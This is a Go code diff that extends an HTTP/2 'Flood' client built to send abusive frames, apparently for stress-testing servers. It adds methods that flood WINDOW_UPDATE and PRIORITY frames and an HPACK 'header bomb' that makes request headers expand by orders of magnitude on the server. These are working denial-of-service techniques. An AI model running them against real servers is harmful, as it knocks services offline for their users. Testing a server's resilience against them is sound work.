@@ -12,8 +12,8 @@ import (
 	"golang.org/x/net/http2/hpack"
 )
 
-// Flood is an HTTP/2 connection without TLS, for frames that no well-behaved client sends. It is used by one goroutine.
-// Its methods return an error when the server has closed the connection.
+// Flood is an HTTP/2 connection for frames that no well-behaved client sends. It is used by one goroutine. Its methods
+// return an error when the server has closed the connection.
 type Flood struct {
 	conn    net.Conn
 	buffer  *bufio.Writer
@@ -24,12 +24,18 @@ type Flood struct {
 	ended   chan struct{} // closed when the server has closed the connection; nil: nothing is read
 }
 
-// DialFlood connects to a server. With read it reads and discards the server's frames; otherwise it never reads.
+// DialFlood connects to a server without TLS. With read it reads and discards the server's frames; otherwise it never
+// reads.
 func DialFlood(ctx context.Context, addr string, read bool) (*Flood, error) {
 	conn, err := new(net.Dialer).DialContext(ctx, "tcp", addr)
 	if err != nil {
 		return nil, err
 	}
+	return NewFlood(conn, read)
+}
+
+// NewFlood begins HTTP/2 on a connection, as DialFlood does. It closes the connection if it fails.
+func NewFlood(conn net.Conn, read bool) (*Flood, error) {
 	c := &Flood{conn: conn, buffer: bufio.NewWriterSize(conn, 64<<10)}
 	c.framer = http2.NewFramer(c.buffer, nil)
 	c.encoder = hpack.NewEncoder(&c.block)
@@ -40,7 +46,7 @@ func DialFlood(ctx context.Context, addr string, read bool) (*Flood, error) {
 			_, _ = io.Copy(io.Discard, conn) // any error is the end
 		}()
 	}
-	_, err = c.buffer.WriteString(http2.ClientPreface)
+	_, err := c.buffer.WriteString(http2.ClientPreface)
 	if err = errors.Join(err, c.framer.WriteSettings(), c.framer.WriteSettingsAck(), c.buffer.Flush()); err != nil {
 		c.Close()
 		return nil, err
@@ -84,6 +90,32 @@ func (c *Flood) Pings(n int) error {
 func (c *Flood) Settings(n int) error {
 	return c.repeat(n, func() error {
 		return c.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 1 << 16})
+	})
+}
+
+// WindowUpdates sends n WINDOW_UPDATE frames for the connection.
+func (c *Flood) WindowUpdates(n int) error {
+	return c.repeat(n, func() error { return c.framer.WriteWindowUpdate(0, 1) })
+}
+
+// Priorities sends n PRIORITY frames.
+func (c *Flood) Priorities(n int) error {
+	return c.repeat(n, func() error {
+		return c.framer.WritePriority(1, http2.PriorityParam{StreamDep: 3, Weight: 1})
+	})
+}
+
+// Bombs opens n streams, each with a GET of a path, whose headers are larger by orders of magnitude than they are on
+// the wire: size references of a byte to one header.
+func (c *Flood) Bombs(path string, n, size int) error {
+	const newest = 0x80 | 62 // the reference to the header that was added last to the table
+	return c.repeat(n, func() error {
+		c.headers(path)
+		_ = c.encoder.WriteField(hpack.HeaderField{Name: "x-bomb", Value: ""}) // to a buffer
+		c.block.Write(bytes.Repeat([]byte{newest}, size))
+		return c.framer.WriteHeaders(http2.HeadersFrameParam{
+			StreamID: c.next(), BlockFragment: c.block.Bytes(), EndStream: true, EndHeaders: true,
+		})
 	})
 }
 
